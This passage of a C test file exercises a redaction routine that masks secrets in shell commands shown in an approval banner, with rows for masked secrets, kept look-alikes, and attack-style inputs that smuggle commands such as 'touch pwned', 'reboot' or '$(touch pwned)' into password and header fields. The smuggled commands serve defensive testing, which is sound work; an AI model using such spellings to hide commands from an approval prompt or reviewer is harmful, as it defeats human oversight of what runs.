    MASKED ("- api_key:\n    \"S3cretZq9\"\n- name: x", "- api_key:\n    \"[REDACTED]\"\n- name: x", "S3cretZq9"),
    MASKED ("<add value=\"S3cretZq9\" key=\"Password\"/>", "<add value=\"[REDACTED]\" key=\"Password\"/>", "S3cretZq9"),
    MASKED ("  <add value='S3cretZq9' name=\"ApiKey\" />", "  <add value='[REDACTED]' name=\"ApiKey\" />", "S3cretZq9"),
    MASKED ("openssl enc -aes-256-cbc -kS3cretZq9 -in f", "openssl enc -aes-256-cbc -k[REDACTED] -in f", "S3cretZq9"),
    MASKED ("openssl enc -aes-256-cbc -k=S3cretZq9 -in f", "openssl enc -aes-256-cbc -k=[REDACTED] -in f", "S3cretZq9"),
    MASKED ("echo 'AUTH S3cretZq9' | redis-cli", "echo 'AUTH [REDACTED]' | redis-cli", "S3cretZq9"),
    MASKED ("printf 'AUTH S3cretZq9\\n' | redis-cli", "printf 'AUTH [REDACTED]\\n' | redis-cli", "S3cretZq9"),
    MASKED ("echo \"AUTH default S3cretZq9\" | redis-cli -h h",
            "echo \"AUTH default [REDACTED]\" | redis-cli -h h", "S3cretZq9"),
    MASKED ("echo AUTH S3cretZq9 | valkey-cli", "echo AUTH [REDACTED] | valkey-cli", "S3cretZq9"),
    MASKED ("printf 'AUTH S3cretZq9\\r\\nPING\\r\\n' | redis-cli",
            "printf 'AUTH [REDACTED]\\r\\nPING\\r\\n' | redis-cli", "S3cretZq9"),
    MASKED ("redis-cli -h h <<< 'AUTH S3cretZq9'", "redis-cli -h h <<< 'AUTH [REDACTED]'", "S3cretZq9"),
    /* near relatives */
    MASKED ("printf 'AUTH %s\\n' S3cretZq9 | redis-cli", "printf 'AUTH %s\\n' [REDACTED] | redis-cli", "S3cretZq9"),
    MASKED ("CREATE ROLE app\n  LOGIN\n  PASSWORD E'S3cretZq9';",
            "CREATE ROLE app\n  LOGIN\n  PASSWORD E'[REDACTED]';", "S3cretZq9"),
    MASKED ("openssl enc -aes-128-cbc -K 0011223344556677Zq9899aabbccddeeff -iv 01 -in f",
            "openssl enc -aes-128-cbc -K [REDACTED] -iv 01 -in f", "Zq9"),
    /* a password in a search pattern is the password still */
    MASKED ("grep 'openssl enc -k S3cretZq9' notes", "grep 'openssl enc -k [REDACTED]' notes", "S3cretZq9"),
    MASKED_SOME ("ssh-keygen -p -qP OldPwZq9 -qN NewPwZq9 -f k",
                 "ssh-keygen -p -qP [REDACTED] -qN [REDACTED] -f k", "Zq9"),
    MASKED_SOME ("ssh-keygen -pqPOldPwZq9 -NNewPwZq9 -f k", "ssh-keygen -pqP[REDACTED] -N[REDACTED] -f k", "Zq9"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Round 13's look-alikes that hold no secret: kept whole. */
static void
test_round13_kept (void)
{
  static const RedactRow rows[] = {
    KEPT ("ssh-keygen -q -f key"),
    KEPT ("ssh-keygen -t ed25519 -qN '' -f k"),
    KEPT ("ssh-keygen -qf k -N \"\""),
    KEPT ("ssh-keygen -lf k.pub"),
    KEPT ("ssh-keygen -lvf k.pub"),
    KEPT ("mysql --pager=less db"),
    KEPT ("mysql --pas db"),
    KEPT ("mysql --password-file=pw.txt db"),
    KEPT ("git log --pas=x"),
    KEPT ("psql -c \"SELECT E'\\n'\""),
    KEPT ("SELECT E'a\\tb', $$text$$ FROM t;"),
    KEPT ("COMMENT ON ROLE u IS $$no password here$$;"),
    KEPT ("ALTER USER u PASSWORD NULL;"),
    KEPT ("The bug was identified\nby the review."),
    KEPT ("Which user was it?\nThe bug was identified by Alice"),
    KEPT ("CREATE USER u;\nThe bug identified by review"),
    KEPT ("ssh -K -N h"),
    KEPT ("mysql -K -N db"),
    KEPT ("key: value\nname:\n  Zq9LongValue"),
    KEPT ("password:\nhost: h"),
    KEPT ("password:\n  file: /run/pw\n"),
    KEPT ("password:\n  - a\n  - b"),
    KEPT ("password:\n  # set below\n"),
    KEPT ("<add value=\"dark\" key=\"Theme\"/>"),
    KEPT ("<add value=\"12\" key=\"PasswordLength\"/>"),
    KEPT ("<add value=\"$(PW)\" key=\"Password\"/>"),
    KEPT ("openssl enc -kfile pw.txt -in f"),
    KEPT ("openssl req -new -keyout k.pem -out r.csr"),
    KEPT ("openssl enc -aes-256-cbc -kdf pbkdf2 -pass env:PW -in f"),
    KEPT ("openssl rsa -passin file:pw.txt -in k.pem"),
    KEPT ("curl -kS3cretZq9 https://x.example"),
    KEPT ("echo 'GET auth' | redis-cli"),
    KEPT ("echo PING | redis-cli"),
    KEPT ("echo 'AUTH S3cretZq9' | cat"),
    KEPT ("echo \"AUTH $REDIS_PW\" | redis-cli"),
    KEPT ("sshpass -P assword: ssh h"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Round 13's spellings tried as an attacker would: a mask never hides
 * what the shell runs, nor changes bash's reading of what follows. */
static void
test_round13_hide_nothing (void)
{
  static const RedactRow rows[] = {
    HIDE_NOTHING ("ssh-keygen -qN #Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("ssh-keygen -qN$(touch pwned) -f k", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("mysql --pas=#Zq9'\ntouch pwned\n#'", NULL, "touch pwned"),
    HIDE_NOTHING ("ALTER USER u PASSWORD E'a; touch pwned';", NULL, "touch pwned"),
    HIDE_NOTHING ("ALTER USER u PASSWORD $$a;touch pwned$$;", NULL, "touch pwned"),
    HIDE_NOTHING ("PASSWORD $a$reboot$a$", NULL, "reboot"),
    HIDE_NOTHING ("password:\n  touch pwned", NULL, "touch pwned"),
    HIDE_NOTHING ("password:\n  $(touch pwned)", NULL, "$(touch pwned)"),
    /* a one-word line under a key that reads as a command's name: bash
     * running the text runs it (the block's was masked before) */
    HIDE_NOTHING ("password: |\n  reboot", NULL, "reboot"),
    HIDE_NOTHING ("password: >-\n  ./pwn", NULL, "./pwn"),
    HIDE_NOTHING ("password:\n  python3", NULL, "python3"),
    HIDE_NOTHING ("api_key:\n  \"reboot\"", NULL, "reboot"),
    HIDE_NOTHING ("<add value=\"a; touch pwned\" key=\"Password\"/>", NULL, "touch pwned"),
    HIDE_NOTHING ("openssl enc -k#Zq9'\ntouch pwned\n#' -in f", NULL, "touch pwned"),
    HIDE_NOTHING ("echo 'AUTH $(touch pwned)' | redis-cli", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("echo AUTH `touch pwned` | redis-cli", NULL, "touch pwned"),
    HIDE_NOTHING ("printf 'AUTH x\\n' | redis-cli; touch pwned", NULL, "touch pwned"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

/* Finding (round 13's attack): the credentials of an Authorization header
 * whose scheme and credentials bash parts by an escaped or quoted blank
 * (curl -H Authorization:Bearer\ TOKEN, -HAuthorization:Bearer\<tab>TOKEN,
 * Authorization:Bearer' 'TOKEN, Bearer$'\x20'TOKEN) were stored as written
 * and shown in the approval banner, the question not marked masked; so
 * were a cookie and an X-Api-Key after an escaped blank.  Each through
 * curl, wget, httpie and git, with each scheme. */
static void
test_auth_header_spellings (void)
{
  static const RedactRow rows[] = {
    MASKED ("curl -H Authorization:Bearer\\ S3cretZq9abc https://x",
            "curl -H Authorization:Bearer\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -HAuthorization:Bearer\\ S3cretZq9abc https://x",
            "curl -HAuthorization:Bearer\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\\\tS3cretZq9abc https://x",
            "curl -H Authorization:Bearer\\\t[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\\ \\ S3cretZq9abc https://x",
            "curl -H Authorization:Bearer\\ \\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer' 'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer' '[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\" \"S3cretZq9abc https://x",
            "curl -H Authorization:Bearer\" \"[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$' 'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$' '[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\x20'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\x20'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\040'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\040'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\t'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\t'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H $'Authorization: Bearer\\tS3cretZq9abc' https://x",
            "curl -H $'Authorization: Bearer\\t[REDACTED]' https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Basic\\ dXNlcjpTM2NyM3Q= https://x",
            "curl -H Authorization:Basic\\ [REDACTED] https://x", "dXNlcjpTM2NyM3Q="),
    MASKED ("curl -H Proxy-Authorization:Token\\ S3cretZq9abc https://x",
            "curl -H Proxy-Authorization:Token\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Digest\\ S3cretZq9abc https://x",
            "curl -H Authorization:Digest\\ [REDACTED] https://x", "S3cretZq9abc"),
    /* the scheme stays in sight (it was masked with the token) */
    MASKED ("curl -H Authorization:\\ Bearer\\ S3cretZq9abc https://x",
            "curl -H Authorization:\\ Bearer\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H X-Api-Key:\\ S3cretZq9abc https://x", "curl -H X-Api-Key:\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Cookie:\\ session=S3cretZq9abc https://x",
            "curl -H Cookie:\\ session=[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("wget --header=Authorization:Bearer\\ S3cretZq9abc https://x",
            "wget --header=Authorization:Bearer\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("http https://x Authorization:Bearer\\ S3cretZq9abc",
            "http https://x Authorization:Bearer\\ [REDACTED]", "S3cretZq9abc"),
    MASKED ("git -c http.extraHeader=Authorization:Bearer\\ S3cretZq9abc clone x",
            "git -c http.extraHeader=Authorization:Bearer\\ [REDACTED] clone x", "S3cretZq9abc"),
    MASKED ("the call sends Authorization:Bearer\\ S3cretZq9abc here",
            "the call sends Authorization:Bearer\\ [REDACTED] here", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\\ S3cretZq9abc;touch pwned",
            "curl -H Authorization:Bearer\\ [REDACTED];touch pwned", "S3cretZq9abc"),
    /* round 14: quotes bash takes out of the word, empty or closing it */
    MASKED ("curl -H 'Authorization: Bearer'\\ S3cretZq9abc https://x",
            "curl -H 'Authorization: Bearer'\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer''\\ S3cretZq9abc https://x",
            "curl -H Authorization:Bearer''\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\\ ''S3cretZq9abc https://x",
            "curl -H Authorization:Bearer\\ ''[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\"\"\\ S3cretZq9abc https://x",
            "curl -H Authorization:Bearer\"\"\\ [REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\x20'$'S3cretZq9abc' https://x",
            "curl -H Authorization:Bearer$'\\x20'$'[REDACTED]' https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer\\ $'S3cretZq9abc' https://x",
            "curl -H Authorization:Bearer\\ $'[REDACTED]' https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\r'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\r'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Cookie:$'\\t'a=S3cretZq9abc https://x",
            "curl -H Cookie:$'\\t'a=[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Cookie:' 'a=S3cretZq9abc https://x", "curl -H Cookie:' 'a=[REDACTED] https://x", "S3cretZq9abc"),
    /* control characters of ANSI-C quoting part no credentials: the scheme stays */
    MASKED ("curl -H Authorization:Bearer$'\\u0020'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\u0020'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\40'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\40'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\v'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\v'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\f'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\f'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Authorization:Bearer$'\\e'S3cretZq9abc https://x",
            "curl -H Authorization:Bearer$'\\e'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H Cookie:\\ session=S3cretZq9abc\\;\\ b=1 https://x",
            "curl -H Cookie:\\ session=[REDACTED]\\;\\ b=1 https://x", "S3cretZq9abc"),
    /* NAME: rules with blanks quoted before the value (att14 F1g) */
    MASKED ("curl -H X-Api-Key:' 'S3cretZq9abc https://x", "curl -H X-Api-Key:' '[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H X-Api-Key:$'\\t'S3cretZq9abc https://x",
            "curl -H X-Api-Key:$'\\t'[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H X-Api-Key:\" \"S3cretZq9abc https://x",
            "curl -H X-Api-Key:\" \"[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H X-Auth-Token:' 'S3cretZq9abc https://x",
            "curl -H X-Auth-Token:' '[REDACTED] https://x", "S3cretZq9abc"),
    MASKED ("curl -H X-Api-Key:$' 'S3cretZq9abc https://x",
            "curl -H X-Api-Key:$' '[REDACTED] https://x", "S3cretZq9abc"),
    /* a variable after the token is neither masked nor swallowed */
    MASKED ("curl -H Authorization:Bearer\\ S3cretZq9abc$IFS;reboot",
            "curl -H Authorization:Bearer\\ [REDACTED]$IFS;reboot", "S3cretZq9abc"),
    HELD ("curl -H 'Authorization:Bearer S3cretZq9abc' https://x", "S3cretZq9abc"),
    HELD ("curl -H \"Authorization: Bearer \"S3cretZq9abc https://x", "S3cretZq9abc"),
    HELD ("http https://x Authorization:\"Bearer S3cretZq9abc\"", "S3cretZq9abc"),
    HELD ("wget --header='Authorization: Bearer S3cretZq9abc' https://x", "S3cretZq9abc"),
    HELD ("{\"headers\":{\"Authorization\":\"Bearer S3cretZq9abc\"}}", "S3cretZq9abc"),
    HIDE_NOTHING ("curl -H Authorization:Bearer\\ $(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -H Authorization:Bearer' '`touch pwned` https://x", NULL, "`touch pwned`"),
    HIDE_NOTHING ("curl -H Authorization:Bearer$'\\t'$(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -H Cookie:\\ a=$(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -H Authorization:Bearer\\ S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H Authorization:Bearer''\\ $(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -H 'Authorization: Bearer'\\ `touch pwned` https://x", NULL, "`touch pwned`"),
    HIDE_NOTHING ("curl -H Authorization:Bearer\\ ''S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H Cookie:' 'a=S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H Authorization:Bearer$'\\t'S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H X-Api-Key:$'\\t'$(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -H Cookie:\\ a=S3cretZq9abc\\;\\ b=1;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H Cookie:$'\\t'a=$(touch pwned) https://x", NULL, "$(touch pwned)"),
    HIDE_NOTHING ("curl -H Authorization:Bearer\\ S3cretZq9abc$IFS;touch pwned", "S3cretZq9abc", "$IFS;touch pwned"),
    HIDE_NOTHING ("curl -H X-Api-Key:' 'S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H X-Api-Key:$'\\t'S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H Authorization:Bearer' 'S3cretZq9abc;touch pwned", "S3cretZq9abc", ";touch pwned"),
    HIDE_NOTHING ("curl -H X-Api-Key:' 'S3cretZq9abc x; echo 'y'", "S3cretZq9abc", " x; echo 'y'"),
    KEPT ("curl -H Accept:text/plain https://x"),
    KEPT ("curl -H Accept:\\ text/plain https://x"),
    KEPT ("curl -H \"Authorization: Bearer $TOKEN\" https://x"),
    KEPT ("curl -H Authorization:Bearer\\ $TOKEN https://x"),
    KEPT ("curl -H Authorization:Bearer' '$TOKEN https://x"),
    KEPT ("curl -H \"Authorization: Bearer \"$TOKEN https://x"),
    KEPT ("curl -H Authorization:Bearer$'\\t'${TOKEN} https://x"),
    KEPT ("wget --header=Authorization:Bearer\\ \"$TOKEN\" https://x"),
    KEPT ("http https://x Authorization:Bearer\\ $TOKEN"),
    KEPT ("curl -H Authorization:Bearer''\\ $TOKEN https://x"),
    KEPT ("curl -H 'Authorization: Bearer'\\ \"$TOKEN\" https://x"),
    KEPT ("curl -H \"Authorization: Basic\" https://x"),
    KEPT ("curl -H X-Api-Key:' '$TOKEN https://x"),
  };

  assert_rows (rows, G_N_ELEMENTS (rows));
}

int
main (int argc, char **argv)
{
  g_test_init (&argc, &argv, NULL);
  g_test_add_func ("/pd/redact/spellings-masked", test_spellings_masked);
  g_test_add_func ("/pd/redact/spellings-checked", test_spellings_checked);
  g_test_add_func ("/pd/redact/spellings-kept", test_spellings_kept);
  g_test_add_func ("/pd/redact/spellings-hide-nothing", test_spellings_hide_nothing);
  g_test_add_func ("/pd/redact/sudo-stdin-program", test_sudo_stdin_program);
  g_test_add_func ("/pd/redact/xml-redirection", test_xml_redirection);
  g_test_add_func ("/pd/redact/masks-keep-meaning", test_masks_keep_meaning);
  g_test_add_func ("/pd/redact/no-secret-kept", test_no_secret_kept);
  g_test_add_func ("/pd/redact/zip-grouped", test_zip_grouped);
  g_test_add_func ("/pd/redact/round13-masked", test_round13_masked);
  g_test_add_func ("/pd/redact/round13-kept", test_round13_kept);
  g_test_add_func ("/pd/redact/round13-hide-nothing", test_round13_hide_nothing);
  g_test_add_func ("/pd/redact/auth-header-spellings", test_auth_header_spellings);
  return g_test_run ();
}
